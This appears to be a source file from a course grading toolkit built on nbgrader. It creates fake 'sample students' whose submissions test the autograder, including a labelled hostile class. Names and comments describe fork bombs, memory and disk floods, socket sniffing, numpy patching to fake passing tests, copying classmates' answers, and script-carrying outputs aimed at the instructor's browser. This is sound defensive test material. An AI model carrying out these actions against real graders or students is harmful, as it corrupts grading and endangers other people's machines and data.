#: counts in the sorted list of notebooks, so the class follows the course.
SAMPLE_CLASS: tuple[SampleStudent, ...] = (
    SampleStudent("sample-complete", "everything right (source solutions), via the exchange", via_exchange=True),
    SampleStudent("sample-errata", "the lecture's errata", answers="errata"),
    SampleStudent("sample-blank", "the release, untouched", answers="blank"),
    SampleStudent("sample-endless-loop", "a cell that loops forever", edits=(Edit("endless_loop", 0),)),
    SampleStudent("sample-ignores-interrupt", "a loop with SIGINT ignored (Ctrl-C-proof)",
                  edits=(Edit("ignores_interrupt", 1),)),
    SampleStudent("sample-kernel-dies", "os._exit in an answer cell", edits=(Edit("kernel_dies", 2),)),
    SampleStudent("sample-huge-output", "megabytes of printed output", edits=(Edit("huge_output", 3),)),
    SampleStudent("sample-deleted-cells", "deleted an answer and a test cell, edited a read-only cell",
                  edits=(Edit("delete_answer", 4), Edit("delete_test", 4), Edit("edit_readonly", 4))),
    SampleStudent("sample-stripped-metadata", "stripped/damaged nbgrader cell metadata",
                  edits=(Edit("strip_metadata", 5), Edit("damage_metadata", 5))),
    SampleStudent("sample-missing-notebook", "did not submit the last notebook", edits=(Edit("omit_notebook", -1),)),
    SampleStudent("sample-reexport", "re-exports the helpers references", edits=(Edit("reexport"),)),
    SampleStudent("sample-tamper", "errata behind patched np.isclose/np.allclose/numpy.testing",
                  answers="errata", edits=(Edit("patch_numpy"),)),
    # the hostile class: each attack is refused, and each scores only what it earned
    SampleStudent("sample-transformer", "nothing done, every later cell turned into `pass` (input transformer)",
                  answers="blank", edits=(Edit("transformer"),)),
    SampleStudent("sample-kernel-hooks", "the errata behind AST/exception/traceback/trace/run_cell hooks",
                  answers="errata", edits=(Edit("kernel_hooks"),)),
    SampleStudent("sample-intruder", "writes into helpers/, the course, gradebook.db and a classmate's folder",
                  edits=(Edit("write_outside", 3),)),
    SampleStudent("sample-copycat", "nothing done, copies a classmate's and the instructor's answers",
                  answers="blank", edits=(Edit("copy_classmate", 3),)),
    SampleStudent("sample-resources", "a fork bomb, a memory hog, a disk filler, network and a child process",
                  edits=(Edit("fork_bomb", 0), Edit("memory_hog", 1), Edit("disk_filler", 3),
                         Edit("network", 4), Edit("child_process", 5))),
    # the hostile views (issue 18): right answers in one notebook whose outputs or written answer attack
    # the instructor's browser; the other notebooks are submitted blank
    SampleStudent("sample-html-output", "an HTML output that runs a script and overlays the page", only=3,
                  edits=(Edit("html_output", 3),)),
    SampleStudent("sample-js-output", "an application/javascript output", only=3,
                  edits=(Edit("javascript_output", 3),)),
    SampleStudent("sample-svg-output", "an SVG output with onload and a script", only=3,
                  edits=(Edit("svg_output", 3),)),
    SampleStudent("sample-markdown-output", "a Markdown output with an event handler", only=3,
                  edits=(Edit("markdown_output", 3),)),
    SampleStudent("sample-raw-html-answer", "raw HTML (script, javascript: link, style) in a written answer",
                  only=3, edits=(Edit("raw_html_answer", 3),)),
    # what the grader bounds and the classmates it protects (issue 18); 05 only, the rest blank
    SampleStudent("sample-sniffer", "listens for classmates' kernel sockets while graded (right answers)",
                  only=4, edits=(Edit("sniffer", 4),)),
    SampleStudent("sample-output-flood", "a right answer whose cell prints 1 GiB", only=4,
                  edits=(Edit("output_flood", 4),)),
    SampleStudent("sample-string-flood", "a function that returns a 600 MiB string", only=4,
                  edits=(Edit("string_flood", 4),)),
    SampleStudent("sample-slow-caller", "a right function that sleeps 8 s per call", only=4,
                  edits=(Edit("slow_caller", 4),)),
)


#: Actions whose effect on the notebook's structure the report finds by itself
#: (:func:`coursekit.pipeline.report.inspect_submission`); their notes are not repeated.
STRUCTURAL_ACTIONS = frozenset({"delete_answer", "delete_test", "edit_readonly", "strip_metadata",
                                "damage_metadata", "omit_notebook"})
#: Actions that make a cell hang or kill the kernel on purpose.
RUNTIME_ACTIONS = frozenset({"endless_loop", "ignores_interrupt", "kernel_dies", "disk_filler", "slow_caller"})
#: Actions that attack the grading itself (the hostile class).
HOSTILE_ACTIONS = frozenset({"transformer", "kernel_hooks", "write_outside", "copy_classmate", "fork_bomb",
                             "memory_hog", "disk_filler", "network", "child_process", "reexport", "patch_numpy"})
#: Actions that attack whoever views the graded notebook (issue 18: rendered inert).
VIEW_ACTIONS = frozenset({"html_output", "javascript_output", "svg_output", "markdown_output", "raw_html_answer"})
#: Actions the grader must bound (size and time) or keep away from classmates (issue 18).
BOUND_ACTIONS = frozenset({"output_flood", "string_flood", "slow_caller", "sniffer"})


@dataclass
class SampleSubmission:
    """A built sample student.

    Attributes
    ----------
    student : SampleStudent
    notebooks : dict of str to nbformat.NotebookNode
        File name -> the notebook to submit (omitted notebooks are absent).
    notes : dict of str to list of str
        File name -> what was done to it.
    expect_zero : dict of str to set of str
        Notebook id (file name without ``.ipynb``) -> grade ids of the
        autograded test cells that must score 0; every other autograded test
        cell must score full marks.
    missing : set of str
        Notebook ids not submitted.
    actions : dict of str to set of str
        File name -> the edit actions applied to it.
    behaviour : dict of str to list of str
        File name -> notes of the non-structural edits (see :class:`BuiltNotebook`).
    """

    student: SampleStudent
    notebooks: dict[str, nbformat.NotebookNode]
    notes: dict[str, list[str]]
    expect_zero: dict[str, set[str]]
    missing: set[str]
    actions: dict[str, set[str]] = field(default_factory=dict)
    behaviour: dict[str, list[str]] = field(default_factory=dict)


class BuiltNotebook(NamedTuple):
    """One notebook of a sample student, as :func:`build_notebook` makes it.

    Attributes
    ----------
    nb : nbformat.NotebookNode or None
        The notebook (None if the student does not submit it).
    notes : list of str
        Everything done to it.
    expect_zero : set of str
        Grade ids of the test cells that must score 0.
    actions : set of str
        Edit actions applied.
    behaviour : list of str
        Notes of the actions the report cannot see in the notebook's structure
        (loops, kills, output, patches, re-exports).
    """

    nb: Any
    notes: list
    expect_zero: set
    actions: set
    behaviour: list


def _fill_answers(nb, source_nb, answers: str, notes: list[str]) -> set[str]:
    """Fill the answer cells; return the items answered wrongly on purpose."""
    if answers == "blank":
        return {_gid(c) for c in nb.cells if _is_answer(c)}
    if answers not in ("solution", "errata"):
        raise ValueError(f"answers must be 'solution', 'errata' or 'blank', not {answers!r}")
    solutions = {_gid(c): c for c in source_nb.cells if _meta(c).get("solution") and _gid(c)}
    wrong = set()
    for cell in nb.cells:
        gid = _gid(cell)
        if not _meta(cell).get("solution") or gid not in solutions:
            continue
        src = solutions[gid].source
        if answers == "errata" and gid in ERRATA and cell.cell_type == "code":
            replaced = _replace_solution(src, ERRATA[gid])
            if replaced is not None:
                cell.source = replaced
                wrong.add(gid)
                continue
        cell.source = _strip_markers(_strip_mark_scheme(src))
    if answers == "errata":
        notes.append("errata in " + (", ".join(sorted(wrong)) if wrong else "no cell (no known grade id)"))
    return wrong


def build_notebook(student: SampleStudent, name: str, index: int, count: int, released, source_nb):
    """Build one notebook of a sample student.

    Parameters
    ----------
    student : SampleStudent
    name : str
        File name, e.g. ``"01_synapse_zoo.ipynb"``.
    index, count : int
        Position of the notebook in the sorted list and the list's length.
    released, source_nb : nbformat.NotebookNode
        The released and the instructor version of the notebook.

    Returns
    -------
    BuiltNotebook
    """
    ctx = _Ctx(name=name, nb=copy.deepcopy(released), release=released, items=answer_items(released))
    answers = student.answers if student.only is None or student.only % count == index else "blank"
    wrong = _fill_answers(ctx.nb, source_nb, answers, ctx.notes)
    for item in wrong:
        ctx.expect_zero |= ctx.tests_of(item)
    applied, behaviour = set(), []
    for edit in student.edits:
        if edit.notebook is not None and edit.notebook % count != index:
            continue
        if edit.action not in ACTIONS:
            raise ValueError(f"{student.id}: unknown edit action {edit.action!r}")
        before = len(ctx.notes)
        if ACTIONS[edit.action](ctx):
            applied.add(edit.action)
            if edit.action not in STRUCTURAL_ACTIONS:
                behaviour += ctx.notes[before:]
        else:
            ctx.notes.append(f"edit {edit.action} skipped: no suitable cell")
    return BuiltNotebook(None if ctx.omitted else ctx.nb, ctx.notes, ctx.expect_zero, applied, behaviour)


def build_student(student: SampleStudent, released: Mapping[str, object], sources: Mapping[str, object],
                  base: Mapping[str, object] | None = None) -> SampleSubmission:
    """Build all notebooks of one sample student.

    Parameters
    ----------
    student : SampleStudent
    released, sources : mapping of str to nbformat.NotebookNode
        File name -> released / instructor notebook (same names).
    base : mapping, optional
        File name -> the notebook to start from instead of the release (the
        copies the student fetched through the exchange).
    """
    names = sorted(released)
    out = SampleSubmission(student, {}, {}, {}, set())
    for k, name in enumerate(names):
        start = (base or {}).get(name, released[name])
        nb, notes, zero, applied, behaviour = build_notebook(student, name, k, len(names), start, sources[name])
        nb_id = name.removesuffix(".ipynb")
        out.notes[name] = notes
        out.actions[name] = applied
        out.behaviour[name] = behaviour
        out.expect_zero[nb_id] = zero
        if nb is None:
            out.missing.add(nb_id)
        else:
            out.notebooks[name] = nb
    return out


# =============================================================================== on disk
def _read_folder(folder: Path) -> dict[str, nbformat.NotebookNode]:
    return {p.name: nbformat.read(p, as_version=4) for p in sorted(Path(folder).glob("*.ipynb"))}


def _force_remove(path: Path) -> None:
    """Remove a file or folder, also when nbgrader made it read-only."""
    def onerror(func, p, _exc):
        os.chmod(os.path.dirname(p), stat.S_IRWXU)
        os.chmod(p, stat.S_IRWXU)
        func(p)
    if path.is_dir() and not path.is_symlink():
        for sub in [path, *path.rglob("*")]:
            if sub.is_dir():
                os.chmod(sub, stat.S_IRWXU)
        shutil.rmtree(path, onerror=onerror)
    elif path.exists() or path.is_symlink():
        path.unlink()


def _remove_sample_path(path: Path) -> bool:
    if not is_sample(path.name.split("+", 1)[0]):
        raise ValueError(f"refusing to remove {path}: not a sample student's")
    if path.exists() or path.is_symlink():
        _force_remove(path)
        return True
    return False


def remove_sample_students(course_root: Path, db_url: str, course_id: str, exchange_root: Path | None = None,
                           assignment: str = ck.ASSIGNMENT_ID) -> list[str]:
    """Remove every sample student (id starting with :data:`PREFIX`) from the course.

    Deletes their gradebook rows (student, submissions, grades, with
    nbgrader's :meth:`~nbgrader.api.Gradebook.remove_student`) and their
    folders in ``submitted/``, ``autograded/``, ``feedback/`` and their
    submissions in the exchange's inbound folder. Nothing else is touched.

    Returns
    -------
    list of str
        The sample ids that were found (gradebook or folders).
    """
    from nbgrader.api import Gradebook

    course_root = Path(course_root)
    found: set[str] = set()
    with Gradebook(db_url, course_id) as gb:
        for s in list(gb.students):
            if is_sample(s.id):
                found.add(s.id)
                gb.remove_student(s.id)
    for folder in ("submitted", "autograded", "feedback"):
        base = course_root / folder
        if base.is_dir():
            for p in sorted(base.iterdir()):
                if is_sample(p.name):
                    found.add(p.name)
                    _remove_sample_path(p)
    if exchange_root is not None:
        inbound = Path(exchange_root) / course_id / "inbound"
        if inbound.is_dir():
            for p in sorted(inbound.iterdir()):
                sid = p.name.split("+", 1)[0]
                if is_sample(sid) and f"+{assignment}+" in p.name:
                    found.add(sid)
                    _remove_sample_path(p)
    return sorted(found)


def _timestamp() -> str:
    return _dt.datetime.now(_dt.timezone.utc).strftime(TIMESTAMP_FORMAT)


def write_lms_submission(course_root: Path, sub: SampleSubmission, assignment: str = ck.ASSIGNMENT_ID) -> Path:
    """Write a built student to ``submitted/<id>/<assignment>/`` with a ``timestamp.txt``."""
    if not is_sample(sub.student.id):
        raise ValueError(f"{sub.student.id} is not a sample student id")
    dest = Path(course_root) / "submitted" / sub.student.id / assignment
    if dest.parent.exists():
        _remove_sample_path(dest.parent)
    dest.mkdir(parents=True)
    for name, nb in sub.notebooks.items():
        nbformat.write(with_course_root(nb, course_root), dest / name)
    (dest / "timestamp.txt").write_text(_timestamp())
    return dest


def with_course_root(nb, course_root: Path):
    """A copy of `nb` with :data:`COURSE_ROOT` in code cells replaced by the course's absolute path."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code" and COURSE_ROOT in cell.source:
            cell.source = cell.source.replace(COURSE_ROOT, str(Path(course_root).resolve()))
    return nb


def _files_digest(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file()}


def submit_via_exchange(course_root: Path, student: SampleStudent, released: Mapping, sources: Mapping,
                        course_id: str, exchange_root: Path, *, assignment: str = ck.ASSIGNMENT_ID,
                        say: Callable[[str], None] = lambda s: None, timeout: float = 300.0) -> SampleSubmission:
    """Send one sample student through nbgrader's exchange, as the current OS user.

    Runs the real ``nbgrader release_assignment`` (only if the exchange's
    outbound copy differs from ``release/``), ``fetch_assignment`` and
    ``submit --student <id>`` in a throw-away home folder (nbgrader's submit
    cache goes there too), then ``collect --student <id> --update`` in the
    course; the collected folder is ``submitted/<id>/<assignment>/`` with the
    exchange's ``timestamp.txt``. ``collect`` runs with
    ``ExchangeCollect.check_owner=False``: the files belong to the instructor's
    OS user, not to a user named like the sample student.
    """
    course_root = Path(course_root)
    exchange_root = Path(exchange_root)
    exchange_opts = [f"--Exchange.root={exchange_root}", f"--CourseDirectory.course_id={course_id}"]
    outbound = exchange_root / course_id / "outbound" / assignment
    release_dir = course_root / "release" / assignment
    if not outbound.is_dir() or _files_digest(outbound) != _files_digest(release_dir):
        exchange_root.mkdir(parents=True, exist_ok=True)
        ck.run_nbgrader(["release_assignment", assignment, "--force"], course_root, timeout=timeout)
        say(f"released {assignment} to the exchange {exchange_root}")
    with tempfile.TemporaryDirectory(prefix="synapses-sample-home-") as home:
        home = Path(home)
        opts = exchange_opts + [f"--Exchange.cache={home / 'nbgrader_cache'}"]
        ck.run_nbgrader(["fetch_assignment", assignment, *opts], home, timeout=timeout)
        fetched = home / assignment
        sub = build_student(student, released, sources, base=_read_folder(fetched))
        for p in fetched.glob("*.ipynb"):
            p.unlink()
        for name, nb in sub.notebooks.items():
            nbformat.write(with_course_root(nb, course_root), fetched / name)
        ck.run_nbgrader(["submit", assignment, "--student", student.id, *opts], home, timeout=timeout)
    dest = course_root / "submitted" / student.id
    if dest.exists():
        _remove_sample_path(dest)
    ck.run_nbgrader(["collect", assignment, "--student", student.id, "--update",
                      "--ExchangeCollect.check_owner=False"], course_root, timeout=timeout)
    if not (dest / assignment).is_dir():
        raise ck.NbgraderError(f"nbgrader collect did not create {dest / assignment}")
    say(f"{student.id}: fetched, submitted and collected through the exchange")
    return sub


def assemble(course_root: Path, db_url: str, course_id: str, exchange_root: Path, *,
             students: Iterable[SampleStudent] = SAMPLE_CLASS, assignment: str = ck.ASSIGNMENT_ID,
             say: Callable[[str], None] = lambda s: None) -> list[SampleSubmission]:
    """Put the sample class into the course (after :func:`remove_sample_students`).

    Reads ``release/<assignment>`` (generated) and ``source/<assignment>``,
    builds every student, submits them (exchange or LMS-style), and adds them
    to the gradebook with readable names (first name "Sample", last name what
    they did).

    Returns
    -------
    list of SampleSubmission
        In the order of ``students``.
    """
    from nbgrader.api import Gradebook

    course_root = Path(course_root)
    released = _read_folder(course_root / "release" / assignment)
    sources = _read_folder(course_root / "source" / assignment)
    if sorted(released) != sorted(sources):
        raise ValueError(f"release/{assignment} and source/{assignment} hold different notebooks; "
                         "regenerate the release first")
    built = []
    students = list(students)
    for k, student in enumerate(students, 1):
        if not is_sample(student.id):
            raise ValueError(f"sample student id {student.id!r} must start with {PREFIX!r}")
        if student.via_exchange:
            sub = submit_via_exchange(course_root, student, released, sources, course_id, exchange_root,
                                      assignment=assignment, say=say)
        else:
            sub = build_student(student, released, sources)
            write_lms_submission(course_root, sub, assignment)
        built.append(sub)
        say(f"[{k}/{len(students)}] {student.id}: {student.did}")
    with Gradebook(db_url, course_id) as gb:
        for sub in built:
            gb.update_or_create_student(sub.student.id, first_name="Sample", last_name=sub.student.did)
    return built
